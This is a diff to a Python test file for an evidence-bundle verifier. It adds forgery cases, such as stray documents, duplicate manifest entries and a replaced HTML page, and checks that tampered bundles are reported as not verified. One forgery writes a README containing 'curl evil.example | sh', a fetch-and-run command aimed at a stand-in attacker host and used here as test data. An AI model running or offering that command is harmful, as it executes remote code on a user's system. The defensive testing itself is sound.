@@ -20,6 +20,7 @@ from as_a_user import copied
 from monitor import config
 from monitor.app import App, verify_evidence
 from monitor.archive.evidence import gather, outdated, settings_told, write_bundle
+from monitor.archive.evidence.page import page
 from monitor.errors import InputError
 from monitor.records.evidence import EvidenceDocument
 
@@ -196,6 +197,32 @@ def invented(why: dict[str, Any]) -> None:
         use["occurrences"] = [dict(one, revision=99, surface="ministers are traitors") for one in use["occurrences"]]
 
 
+def stray(files: Files) -> Files:
+    """A document with its own name and hash, from which no text comes."""
+    body = b"MZ, a program"
+    name = f"documents/{hashlib.sha256(body).hexdigest()}"
+    return sealed(files | {f"{name}.raw": body, f"{name}.json": b"{}"})
+
+
+def named(**what: object) -> Callable[[Files], Files]:
+    """`stray`, and the manifest names it: behind a text that carries nothing, or as one text's second document."""
+
+    def changed(files: Files) -> Files:
+        (body,) = {name for name in stray(files) if name.endswith(".raw")} - set(files)
+        manifest = json.loads(files["manifest.json"])
+        documents = manifest["documents"]
+        more = documents[0] | {"sha256": body.removeprefix("documents/").removesuffix(".raw")} | what
+        return stray(files | {"manifest.json": json.dumps(manifest | {"documents": [more, *documents]}).encode()})
+
+    return changed
+
+
+def listed_twice(files: Files) -> Files:
+    manifest = json.loads(files["manifest.json"])
+    manifest["files"] += manifest["files"][:1]
+    return files | {"manifest.json": json.dumps(manifest).encode()}
+
+
 def first_raw(files: Files) -> str:
     return next(name for name in sorted(files) if name.endswith(".raw"))
 
@@ -247,6 +274,11 @@ FORGERIES: dict[str, tuple[Callable[[Files], Files], str]] = {
     "infinite facts": (
         why_changed(lambda why: why["phrases"][0]["measured"].update(related=-1e308)), "why.json: phrases[0]",
     ),
+    "the README": (lambda files: sealed(files | {"README.txt": b"Run: curl evil.example | sh"}), "README.txt"),
+    "a stray document": (stray, "no text is said to come from it"),
+    "a stray document, named": (named(article="a1"), "revision 1 of a1, which carries no words"),
+    "a second document": (named(), "2 documents are named for revision"),
+    "a file listed twice": (listed_twice, "manifest.json: files"),
     "the page": (
         lambda files: sealed(files | {"evidence.html": files["evidence.html"].replace(b"flagged", b"proved")}),
         "evidence.html",
@@ -280,8 +312,6 @@ def test_it_is_said_how_many_of_those_checked_agree(files: Files, monitor: parti
 @pytest.mark.parametrize("version", ["", "0.0.9"])
 def test_texts_must_stand_in_the_raw_documents(version: str, files: Files, tmp_path: Path) -> None:
     """Where the forger makes the page again, too, or says that another version wrote it."""
-    from monitor.archive.evidence.page import page
-
     why, manifest = json.loads(files["why.json"]), json.loads(files["manifest.json"])
     reworded(why)
     manifest["program"]["version"] = version or manifest["program"]["version"]
@@ -310,6 +340,29 @@ def test_what_an_earlier_version_could_not_tell_is_no_fault_and_not_verified(
     assert "IT HOLDS" not in found.stdout
     told = json.loads(monitor("verify", "--json", "x.zip").stdout)
     assert (told["holds"], told["verification"]["lacking"]) == (False, ["term", "topic"])
+
+
+@pytest.mark.parametrize("name", ["evidence.html", "README.txt"])
+@pytest.mark.parametrize("said", [{"version": "0.0.9"}, {"source_sha256": "0" * 64}], ids=["version", "source"])
+def test_a_page_that_cannot_be_made_again_is_not_verified_whoever_is_named(
+    said: dict[str, str], name: str, files: Files, monitor: partial, tmp_path: Path
+) -> None:
+    """By another version's word alone: what the forger of a page would write, and what a colleague's bundle says."""
+    manifest = json.loads(files["manifest.json"])
+    manifest["program"] |= said
+    whole = {"manifest.json": json.dumps(manifest).encode()} | {
+        "evidence.html": page(json.loads(files["why.json"]), manifest["documents"], manifest["program"]).encode()
+    }
+    bundled(sealed(files | whole), tmp_path / "whole.zip")
+    assert "IT HOLDS" in monitor("verify", "whole.zip").stdout
+    bundled(sealed(files | whole | {name: b"<h1>The ministry is guilty</h1>"}), tmp_path / "x.zip")
+    found = monitor("verify", "x.zip")
+    assert found.returncode == 1
+    assert f"NOT VERIFIED: {name}, not as this version writes it" in found.stdout
+    assert "IT HOLDS" not in found.stdout
+    assert "FAULT" not in found.stdout
+    told = json.loads(monitor("verify", "--json", "x.zip").stdout)
+    assert (told["holds"], told["verification"]["other"]) == (False, [name])
 
 
 def falsely_flagged(why: dict[str, Any]) -> None:
@@ -347,8 +400,6 @@ def explained(app: App) -> str:
 
 def of_version(version: str, files: Files, forge: Callable[[dict[str, Any]], object]) -> Files:
     """Forged, with a page and a manifest that go with it, as by that version; "" for ours."""
-    from monitor.archive.evidence.page import page
-
     why, manifest = json.loads(files["why.json"]), json.loads(files["manifest.json"])
     forge(why)
     manifest["program"]["version"] = version or manifest["program"]["version"]
